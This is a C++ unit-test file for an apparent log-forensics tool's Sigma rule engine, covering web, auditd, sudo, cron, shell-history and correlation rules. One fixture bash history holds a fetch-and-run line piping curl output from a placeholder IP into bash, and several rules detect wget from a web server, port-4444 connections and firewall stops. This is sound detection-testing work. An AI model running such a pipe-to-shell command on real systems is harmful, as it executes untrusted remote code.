#include <gtest/gtest.h>

#include <algorithm>
#include <map>

#include "mini_root.hpp"

namespace rescue::detect {
namespace {

/// A disk, and beside it a folder of rules.
struct SigmaRoot : MiniRoot {
  MiniRoot rules;

  SigmaRoot() {
    write("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nweb:x:1000:1000::/home/web:/bin/bash\n");
  }

  /// A rule named by its title alone.
  void add_rule(const std::string& title, const std::string& source, const std::string& detection) {
    rules.write("/" + title + ".yml",
                "title: " + title + "\nlevel: medium\nlogsource: {" + source + "}\ndetection:\n" + detection);
  }
  InvestigationResult look(unsigned jobs = 1, bool loose = false) const {
    const auto disk = evidence::SafeRoot::open(directory()).value();
    const auto folder = evidence::SafeRoot::open(rules.directory()).value();
    return detect::investigate(disk, {.jobs = jobs, .sigma = &folder, .loose = loose});
  }
  /// By title: "file:line" of the first evidence.
  std::map<std::string, std::string> places(bool loose = false) const {
    std::map<std::string, std::string> out;
    const auto result = look(1, loose);
    for (const auto& finding : result.document.at("findings")) {
      if (!finding.at("rule").get<std::string>().starts_with("sigma.")) continue;
      const auto& evidence = finding.at("evidence")[0];
      out.emplace(finding.at("title"), evidence.at("file").get<std::string>() + ":" +
                                           std::to_string(evidence.at("line").get<int>()));
    }
    return out;
  }
};

using Places = std::map<std::string, std::string>;

std::string audit_call(const std::string& serial, const std::string& fields) {
  return "type=SYSCALL msg=audit(1789264811.123:" + serial + "): arch=c000003e " + fields + " key=(null)\n";
}
std::string audit_record(const std::string& serial, const std::string& type, const std::string& fields) {
  return "type=" + type + " msg=audit(1789264811.123:" + serial + "): " + fields + "\n";
}

bool has_gap(const Json& document, const std::string& reason) {
  const auto& gaps = document.at("gaps");
  return std::any_of(gaps.begin(), gaps.end(), [&](const Json& gap) {
    return gap.at("reason").get<std::string>().find(reason) != std::string::npos;
  });
}

TEST(Sigma, AFindingBearsWhatTheRuleSaysOfItself) {
  SigmaRoot root;
  root.rules.write(
      "/a/one.yml",
      "title: A tool that tries doors\nid: 11111111-2222-4333-8444-555555555555\nstatus: stable\n"
      "description: It names itself.\ntags: [attack.t1595.002]\nlevel: high\nlogsource: {category: "
      "webserver}\n"
      "detection:\n  s:\n    cs-user-agent|contains: doortry/\n  condition: s\nfalsepositives: [Own tests, "
      "Others' tests]\n");
  root.write(
      "/var/log/nginx/access.log",
      "203.0.113.5 - - [13/Sep/2026:02:00:11 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"curl/8\"\n"
      "203.0.113.5 - - [13/Sep/2026:02:00:12 +0000] \"GET /x HTTP/1.1\" 404 1 \"-\" \"Doortry/1.0\"\n"
      "203.0.113.5 - - [13/Sep/2026:02:00:13 +0000] \"GET /y HTTP/1.1\" 404 1 \"-\" \"doortry/1.0\"\n");
  const auto result = root.look();
  const auto& findings = result.document.at("findings");
  const auto at = std::find_if(findings.begin(), findings.end(), [](const Json& f) {
    return f.at("rule") == "sigma.11111111_2222_4333_8444_555555555555";
  });
  ASSERT_NE(at, findings.end());
  EXPECT_EQ(at->at("title"), "A tool that tries doors");
  EXPECT_EQ(at->at("severity"), "high");
  EXPECT_EQ(at->at("confidence"), "medium");
  EXPECT_EQ(at->at("attack_ids"), Json({"T1595.002"}));
  EXPECT_EQ(at->at("address"), "203.0.113.5");
  EXPECT_EQ(at->at("time"), "2026-09-13T02:00:12.000Z");
  EXPECT_EQ(at->at("benign"), "Own tests; Others' tests");
  EXPECT_NE(at->at("why").get<std::string>().find("2 times"), std::string::npos);
  ASSERT_EQ(at->at("evidence").size(), 2U);
  EXPECT_EQ(at->at("evidence")[0].at("line"), 2);
  EXPECT_EQ(at->at("evidence")[0].at("sha256").get<std::string>().size(), 64U);
  EXPECT_EQ(result.document.at("verdict").at("intrusion").at("state"), "suspected");
  EXPECT_EQ(result.stats.at("sigma").at("loaded"), 1);
}

TEST(Sigma, RequestsAreSeenAsLoggedAndDecoded) {
  SigmaRoot root;
  root.add_rule("decoded", "category: webserver",
                "  s:\n    cs-uri-query|contains: 'q=a b\"c'\n  condition: s\n");
  root.add_rule("logged", "category: webserver", "  s:\n    c-uri|contains: a%20b\n  condition: s\n");
  root.add_rule("stem", "category: webserver",
                "  s:\n    cs-uri-stem: /x.php\n    cs-method: GET\n    sc-status: 200\n  condition: s\n");
  root.add_rule("no referrer", "category: webserver",
                "  s:\n    cs-referer: null\n    cs-uri-stem|endswith: .php\n  condition: s\n");
  root.add_rule("agent", "category: webserver", "  s:\n    c-useragent: 'say \"x\"'\n  condition: s\n");
  root.add_rule("other server", "category: webserver, product: nginx",
                "  s:\n    c-uri|contains: x.php\n  condition: s\n");
  root.write("/var/log/apache2/access.log",
             "203.0.113.5 - - [13/Sep/2026:02:00:11 +0000] \"GET /x.php?q=a%20b%22c HTTP/1.1\" 200 1 \"-\" "
             "\"say \\\"x\\\"\"\n");
  const std::string first = "/var/log/apache2/access.log:1";
  EXPECT_EQ(
      root.places(),
      (Places{
          {"decoded", first}, {"logged", first}, {"stem", first}, {"no referrer", first}, {"agent", first}}));
}

TEST(Sigma, AuditRecordsAreProcessesFilesConnectionsAndThemselves) {
  SigmaRoot root;
  root.add_rule("record", "product: linux, service: auditd",
                "  s:\n    type: EXECVE\n    a0: wget\n    a1|contains: 'a b'\n  condition: s\n");
  root.add_rule("path", "product: linux, service: auditd",
                "  s:\n    type: PATH\n    name: /etc/x\n    exe|endswith: /wget\n  condition: s\n");
  root.add_rule("call", "product: linux, service: auditd", "  s:\n    SYSCALL: connect\n  condition: s\n");
  root.add_rule("unit", "product: linux, service: auditd",
                "  s:\n    type: SERVICE_STOP\n    unit: firewalld\n  condition: s\n");
  root.add_rule(
      "process", "product: linux, category: process_creation",
      "  s:\n    Image|endswith: /wget\n    CommandLine: 'wget a b'\n    User: root\n    CurrentDirectory: "
      "/tmp\n"
      "    ParentImage: /usr/sbin/apache2\n    ParentCommandLine|contains: 'apache2 -k'\n  condition: s\n");
  root.add_rule("file", "product: linux, category: file_event",
                "  s:\n    TargetFilename: /etc/x\n    Image: /usr/bin/wget\n  condition: s\n");
  root.add_rule("connection", "product: linux, category: network_connection",
                "  s:\n    DestinationIp|cidr: 198.51.100.0/24\n    DestinationPort: 4444\n    Initiated: "
                "'true'\n  condition: s\n");
  root.add_rule("failed", "product: linux, category: file_event",
                "  s:\n    TargetFilename: /etc/never\n  condition: s\n");
  root.write(
      "/var/log/audit/audit.log",
      audit_call("1",
                 "syscall=59 success=yes ppid=1 pid=20 uid=0 comm=\"apache2\" exe=\"/usr/sbin/apache2\"") +
          audit_record("1", "EXECVE", "argc=3 a0=\"apache2\" a1=\"-k\" a2=\"start\"") +
          audit_record("1", "PROCTITLE", "proctitle=61") +
          audit_call("2", "syscall=59 success=yes ppid=20 pid=21 uid=0 comm=\"wget\" exe=\"/usr/bin/wget\"") +
          audit_record("2", "EXECVE", "argc=2 a0=\"wget\" a1=612062") +
          audit_record("2", "CWD", "cwd=\"/tmp\"") + audit_record("2", "PROCTITLE", "proctitle=61") +
          audit_call("3",
                     "syscall=257 success=yes ppid=20 pid=21 uid=0 comm=\"wget\" exe=\"/usr/bin/wget\"") +
          audit_record("3", "CWD", "cwd=\"/etc\"") +
          audit_record("3", "PATH", "item=1 name=\"x\" nametype=CREATE") +
          audit_record("3", "PATH", "item=0 name=\"/etc/x\" nametype=NORMAL") +
          audit_record("3", "PROCTITLE", "proctitle=61") +
          audit_call(
              "4",
              "syscall=42 success=no exit=-115 ppid=20 pid=21 uid=0 comm=\"wget\" exe=\"/usr/bin/wget\"") +
          audit_record("4", "SOCKADDR", "saddr=0200115CC633640700000000") +
          audit_record("4", "PROCTITLE", "proctitle=61") +
          audit_call(
              "5",
              "syscall=257 success=no exit=-13 ppid=20 pid=21 uid=0 comm=\"wget\" exe=\"/usr/bin/wget\"") +
          audit_record("5", "PATH", "item=1 name=\"/etc/never\" nametype=CREATE") +
          audit_record("5", "PROCTITLE", "proctitle=61") +
          audit_record("6", "SERVICE_STOP", "pid=1 uid=0 msg='unit=firewalld comm=\"systemd\" res=success'"));
  const std::string log = "/var/log/audit/audit.log:";
  EXPECT_EQ(root.places(), (Places{{"record", log + "5"},
                                   {"process", log + "5"},
                                   {"file", log + "10"},
                                   {"path", log + "11"},
                                   {"call", log + "13"},
                                   {"connection", log + "14"},
                                   {"unit", log + "19"}}));
}

TEST(Sigma, CommandsOfSudoCronAndHistoriesAreProcesses) {
  SigmaRoot root;
  root.add_rule("fetch", "product: linux, category: process_creation",
                "  s:\n    Image|endswith: /curl\n    CommandLine|contains: ' -s '\n  condition: s\n");
  root.add_rule("second", "product: linux, category: process_creation",
                "  s:\n    Image: /usr/bin/bash\n  condition: s\n");
  root.add_rule("as root", "product: linux, category: process_creation",
                "  s:\n    Image: /usr/bin/id\n    User: root\n    ParentImage|endswith: /sudo\n    "
                "CurrentDirectory: /home/web\n  condition: s\n");
  root.add_rule("sudo", "product: linux, service: sudo",
                "  s:\n    USER: root\n    COMMAND|startswith: /usr/bin/id\n  condition: s\n");
  root.write("/home/web/.bash_history", "ls\ncurl -s http://198.51.100.7/x | bash\n");
  root.write(
      "/var/log/auth.log",
      "2026-09-13T02:00:11Z h sudo:   web : TTY=pts/0 ; PWD=/home/web ; USER=root ; COMMAND=/usr/bin/id\n");
  const std::string history = "/home/web/.bash_history:2", log = "/var/log/auth.log:1";
  EXPECT_EQ(root.places(),
            (Places{{"fetch", history}, {"second", history}, {"as root", log}, {"sudo", log}}));
}

TEST(Sigma, LinesBelongToTheirServices) {
  SigmaRoot root;
  for (const std::string service : {"sshd", "auth", "cron", "syslog", "vsftpd", "clamav"})
    root.add_rule(service, "product: linux, service: " + service, "  k: [odd thing]\n  condition: k\n");
  root.add_rule("apache", "service: apache", "  k: [odd thing]\n  condition: k\n");
  root.add_rule("nginx", "service: nginx", "  k: [odd thing]\n  condition: k\n");
  root.add_rule("any", "product: linux", "  k: [other thing]\n  condition: k\n");
  const std::string date = "2026-09-13T02:00:11Z h ";
  root.write("/var/log/auth.log", date + "sshd[1]: Odd thing\n");
  root.write("/var/log/cron.log", date + "crontab[1]: (root) odd thing\n");
  root.write("/var/log/vsftpd.log", "Sun Sep 13 02:00:11 2026 [pid 7] odd thing\n");
  root.write("/var/log/clamav/clamav.log", "Sun Sep 13 02:00:11 2026 -> odd thing\n");
  root.write("/var/log/apache2/error.log",
             "[Sun Sep 13 02:00:11.123456 2026] [core:notice] [pid 7] odd thing\n");
  root.write("/var/log/kern.log", date + "kernel: other thing\n");
  EXPECT_EQ(root.places(), (Places{{"sshd", "/var/log/auth.log:1"},
                                   {"auth", "/var/log/auth.log:1"},
                                   {"cron", "/var/log/cron.log:1"},
                                   {"syslog", "/var/log/auth.log:1"},
                                   {"vsftpd", "/var/log/vsftpd.log:1"},
                                   {"clamav", "/var/log/clamav/clamav.log:1"},
                                   {"apache", "/var/log/apache2/error.log:1"},
                                   {"any", "/var/log/kern.log:1"}}));
}

TEST(Sigma, CorrelationsCountOverLogsAndTellTheirLines) {
  SigmaRoot root;
  root.rules.write("/c.yml",
                   "title: Refused\nname: refused\nlogsource: {product: linux, service: sshd}\ndetection:\n  "
                   "k: [Failed password]\n"
                   "  condition: k\n---\ntitle: Many refused\nlevel: high\ncorrelation:\n  type: "
                   "value_count\n  rules: [refused]\n"
                   "  group-by: [src_ip]\n  timespan: 1m\n  condition: {field: user, gte: 3}\n");
  std::string log;
  for (const std::string user : {"a", "b", "c"})
    log +=
        "2026-09-13T02:00:11Z h sshd[7]: Failed password for " + user + " from 203.0.113.45 port 22 ssh2\n";
  root.write("/var/log/auth.log",
             log + "2026-09-13T02:00:12Z h sshd[7]: Failed password for a from 203.0.113.46 port 22 ssh2\n");
  EXPECT_EQ(root.places(), (Places{{"Many refused", "/var/log/auth.log:1"}}));
}

TEST(Sigma, WhatIsNotLoadedOrNotToldIsAGapAndNamedInTheStatistics) {
  SigmaRoot root;
  root.add_rule("behind", "product: linux", "  k:\n    '|re': 'a(?=b)'\n  condition: k\n");
  root.add_rule("windows one", "product: windows, service: security", "  k: [x]\n  condition: k\n");
  root.add_rule("names", "product: linux, category: network_connection",
                "  s:\n    DestinationHostname: x\n  condition: s\n");
  const auto result = root.look();
  EXPECT_TRUE(has_gap(result.document, "2 Sigma rule(s) not loaded"));
  EXPECT_TRUE(has_gap(result.document, "/behind.yml (behind): k: a regular expression"));
  EXPECT_TRUE(has_gap(result.document, "DestinationHostname (1 rule(s))"));
  const auto& stats = result.stats.at("sigma");
  ASSERT_EQ(stats.at("not_loaded").size(), 2U);
  EXPECT_EQ(stats.at("not_loaded")[1].at("title"), "windows one");
  EXPECT_EQ(stats.at("fields_not_told").at("DestinationHostname"), Json({"names"}));
}

TEST(Sigma, SaysNothingWhereNobodyAskedForIt) {
  SigmaRoot root;
  root.write("/var/log/auth.log", "2026-09-13T02:00:11Z h sshd[1]: odd\n");
  const auto document = root.investigate();
  EXPECT_FALSE(has_gap(document, "Sigma"));
}

TEST(Sigma, ALooseFolderIsReadByItsContent) {
  SigmaRoot root;
  root.add_rule("tool", "product: linux, service: auditd",
                "  s:\n    type: EXECVE\n    a0: nmap\n  condition: s\n");
  root.write(
      "/anything",
      audit_call("1", "syscall=59 success=yes ppid=1 pid=20 uid=0 comm=\"nmap\" exe=\"/usr/bin/nmap\"") +
          audit_record("1", "EXECVE", "argc=1 a0=\"nmap\"") + audit_record("1", "PROCTITLE", "proctitle=61"));
  EXPECT_EQ(root.places(true), (Places{{"tool", "/anything:2"}}));
}

TEST(Sigma, TheSameBytesWhateverTheThreads) {
  SigmaRoot root;
  root.add_rule("any", "product: linux", "  k: [thing]\n  condition: k\n");
  std::string log;
  for (int i = 0; i < 3000; ++i) log += "2026-09-13T02:00:11Z h x[1]: thing " + std::to_string(i) + "\n";
  for (const auto* name : {"/var/log/syslog", "/var/log/messages", "/var/log/auth.log"})
    root.write(name, log);
  EXPECT_EQ(root.look(1).document.dump(), root.look(4).document.dump());
}

}  // namespace
}  // namespace rescue::detect
